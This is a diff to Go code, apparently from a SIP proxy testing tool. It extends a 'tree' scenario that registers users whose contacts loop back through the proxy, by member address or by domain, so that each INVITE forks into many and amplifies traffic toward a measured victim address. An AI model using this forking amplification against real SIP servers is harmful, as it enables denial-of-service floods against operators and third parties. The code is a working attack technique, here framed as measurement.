@@ -20,9 +20,11 @@ const (
 // repetitions to each of ten contacts, and as much again.
 const treeMost = 100
 
-// tree has an INVITE fork into itself.
+// tree has INVITEs fork into themselves: through members' addresses, and through
+// nothing but the domain. The victim is at the attacker's own address, as a proxy
+// may send nowhere else.
 func tree(ctx context.Context, s *site) (outcome, error) {
-	victim, err := newCounter(s.host(strangerHost))
+	victim, err := newCounter(s.host(attackerHost))
 	if err != nil {
 		return outcome{}, err
 	}
@@ -33,22 +35,26 @@ func tree(ctx context.Context, s *site) (outcome, error) {
 	}
 	defer u.conn.Close()
 	users := 0
-	leads := func(user string, contacts ...string) {
-		users++
-		r := register(u.at, user, contacts...)
-		r.to = "<" + s.treeURI(user) + ">"
-		if u.final(ctx, r, s.proxy(users), time.Second) != 200 {
-			users--
-		}
+	for _, kind := range []string{byMember, byDomain} {
+		plantTree(func(user string, contacts ...string) {
+			users++
+			r := register(u.at, user, contacts...)
+			r.to = "<" + s.treeURI(kind+user) + ">"
+			if u.final(ctx, r, s.proxy(users), time.Second) != 200 {
+				users--
+			}
+		}, func(user string, i int) string {
+			if kind == byDomain {
+				return s.treeURI(kind + user)
+			}
+			return fmt.Sprintf("%s;maddr=%s", s.treeURI(kind+user), s.Proxies[i%len(s.Proxies)])
+		}, fmt.Sprintf("sip:v@%s", victim.at))
 	}
-	member := func(user string, i int) string {
-		return fmt.Sprintf("%s;maddr=%s", s.treeURI(user), s.Proxies[i%len(s.Proxies)])
-	}
-	plantTree(leads, member, fmt.Sprintf("sip:v@%s", victim.at))
 	n := pace(ctx, treeRate, func(i int) {
-		r := toUser("INVITE", u.at, "root")
-		r.uri, r.to = s.treeURI("root"), "<"+s.treeURI("root")+">"
-		_, _ = u.conn.WriteToUDPAddrPort(r.bytes(), s.proxy(i))
+		root := s.treeURI([]string{byMember, byDomain}[i%2] + "root")
+		r := toUser("INVITE", u.at, "")
+		r.uri, r.to = root, "<"+root+">"
+		_, _ = u.conn.WriteToUDPAddrPort(r.bytes(), s.proxy(i/2))
 	})
 	datagrams, size := victim.total()
 	out := outcome{Note: fmt.Sprintf("%d users registered; %d INVITEs had the victim sent %d datagrams of %d KB", users, n, datagrams, size>>10)}
@@ -57,6 +63,12 @@ func tree(ctx context.Context, s *site) (outcome, error) {
 	}
 	return out, nil
 }
+
+// Prefixes of the users of either tree.
+const (
+	byMember = "m-"
+	byDomain = "d-"
+)
 
 // treeURI is the address-of-record of a user, with the port at which a maddr of a
 // proxy finds it.
